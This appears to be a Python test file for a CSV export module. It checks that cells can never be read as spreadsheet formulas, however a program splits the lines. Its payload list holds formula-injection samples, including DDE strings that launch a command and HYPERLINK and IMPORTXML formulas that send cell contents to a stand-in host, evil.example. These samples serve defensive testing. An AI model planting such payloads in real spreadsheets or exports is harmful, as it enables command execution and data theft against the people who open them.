"""No cell of a file is a formula, however the program that opens it cuts its lines (T13)."""

import csv
import re
import unicodedata
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intake.desk.reports import spreadsheet
from intake.desk.reports.spreadsheet import harmless, line

SIGNS = "=+-@＝＋－＠−"
BLANKS = [
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\x00",
    "\u202e",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Look")',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "=",
    "\t=1",
    "\r=1",
    "\tplain",
    "\rplain",
    '"=1+1',
    '""=1+1',
    "'=1+1",
    'a";=1+1;"',
    "a;=1+1",
    "a; =1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@SUM(1)",
    "a,=1+1",
    "a|=1+1",
    'DDE("cmd";"/C calc")',
]
PAYLOADS = [blank + formula for blank in BLANKS for formula in FORMULAS]
PLAIN = [
    "Robin",
    "217-555-0100",
    "robin@mail.example",
    "I work until 4 pm.\nIs there room?",
    "a=b",
    "Ünïcödé 🙂",
    "",
]


def test_no_payload_is_a_formula() -> None:
    files = {text: spreadsheet.START + line(["first", text, "last"]) for text in PAYLOADS}

    assert len(files) > 300
    assert [(text, file) for text, file in files.items() if formulas_in(file)] == []


@given(st.text(alphabet=st.sampled_from([*SIGNS, *"\t\r\n ;,|\"'a1\u200b\u00a0"]), max_size=12))
def test_no_text_is_a_formula(text: str) -> None:
    assert formulas_in(line([text, text])) == []


def test_same_search_finds_them_in_a_plain_file() -> None:
    """The control. What begins with a quote or a letter is harmless unless a program cuts it."""
    running = [text for text in FORMULAS if text[0] in f"{SIGNS}\t\ra"]

    assert [text for text in running if not formulas_in(plain_file(text))] == []


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
    assert read(line([text, 7])) == [[text, "7"]]


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_nothing_but_apostrophes_is_added(cells: list[str]) -> None:
    (found,) = read(line(cells))

    assert [each.replace("'", "") for each in found] == [each.replace("'", "") for each in cells]


def test_file_begins_with_the_mark_of_utf_8() -> None:
    assert spreadsheet.START.encode() == b"\xef\xbb\xbf"


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


def plain_file(text: str) -> str:
    """A file as the standard library writes it."""
    file = StringIO()
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow(["first", text])
    return file.getvalue()


def formulas_in(text: str) -> list[str]:
    """Every cell that a program could run: cut as we meant it, at semicolons, at tabs, at lines."""
    text = text.removeprefix(spreadsheet.START)
    cells = [cell for row in read(text) for cell in row]
    pieces = [piece for cell in cells for piece in re.split(r"[;,|\t\r\n]", cell)]
    elsewhere = re.split(r"[;\t\r\n]", text)
    return [
        each
        for each in (*cells, *pieces, *elsewhere)
        if bare(each)[:1] in tuple(SIGNS) or each[:1] in ("\t", "\r", "\n")
    ]


def bare(cell: str) -> str:
    """Without quotes and whatever nobody sees in front."""
    while cell and (
        cell[0] in '"' or unicodedata.category(cell[0]) in ("Cc", "Cf", "Zs", "Zl", "Zp")
    ):
        cell = cell[1:]
    return cell
